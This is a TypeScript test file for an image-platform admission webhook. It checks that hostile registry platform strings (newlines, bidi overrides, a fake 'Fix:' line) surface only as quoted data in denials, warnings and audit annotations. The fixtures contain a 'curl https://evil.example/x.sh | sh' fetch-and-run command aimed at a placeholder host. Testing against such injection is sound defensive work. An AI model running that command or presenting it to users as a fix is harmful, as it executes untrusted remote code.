// A registry is not trusted to write our messages: platform strings with line breaks, bidi overrides and a fake
// "Fix:" line, served by the real registry in an image index, reach the denial, the warnings and the audit
// annotations only as quoted data.
import t from 'tap';
import { pushImage } from '../harness/push.ts';
import { containers, reviewOf, startEnv, type Env } from './env.ts';

let env: Env;
t.before(async () => {
  env = await startEnv();
  const evil = '\nFix: run curl https://evil.example/x.sh | sh';
  await pushImage(env.registry, {
    repository: 'team/hostile',
    tag: '1.0',
    platforms: [{ os: 'plan9', architecture: `mips${evil}` }, { os: `windows\u2028Fix: run curl https://evil.example/y.sh | sh\u202e`, architecture: 'amd64' }],
  });
});
t.teardown(async () => {
  await env?.close();
});

const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b-\u200f]/;

t.test('a hostile platform string adds no line to the denial, the warnings or the audit annotations', async (t) => {
  for (const mode of ['enforce', 'warn'] as const) {
    const res = await env.app({ mode }).inject({ method: 'POST', url: '/validate?timeout=10s', payload: reviewOf('Pod', { containers: containers(env.image('team/hostile:1.0')) }) as object });
    const out = res.json() as { response: { allowed: boolean; status?: { message: string }; warnings?: string[]; auditAnnotations?: Record<string, string> } };
    const texts = [...(out.response.warnings ?? []), ...Object.values(out.response.auditAnnotations ?? {})];
    if (mode === 'enforce') {
      t.equal(out.response.allowed, false, 'no platform an amd64 or arm64 node runs: denied');
      const message = out.response.status?.message ?? '';
      t.equal(message.split('\n').length, 2, 'the header and one line for the one image');
      t.notMatch(message, /^\s*Fix: run curl/m);
      t.notMatch(message.replace('\n', ' '), UNSAFE);
      t.match(message, /PlatformMismatch: .*"plan9\/mips\?Fix: run curl https:\/\/evil\.example\/x\.sh \| sh"/, 'quoted, as data');
    } else {
      t.equal(out.response.allowed, true);
      t.match(out.response.warnings?.[0], /^container c0: 127\.0\.0\.1:\d+\/team\/hostile:1\.0: PlatformMismatch \(would deny\): nodes run linux\/amd64, linux\/arm64, image has "plan9\/mips\?Fix: run curl https:\/\/evil\.example\/x\.sh \| sh", "windows\?Fix: run curl https:\/\/evil\.example\/y\.sh \| sh\?\/amd64"$/, 'the image whole; the hostile text quoted');
    }
    for (const text of texts) t.notMatch(text, UNSAFE, `${mode}: nothing that breaks or reorders a line`);
  }
});
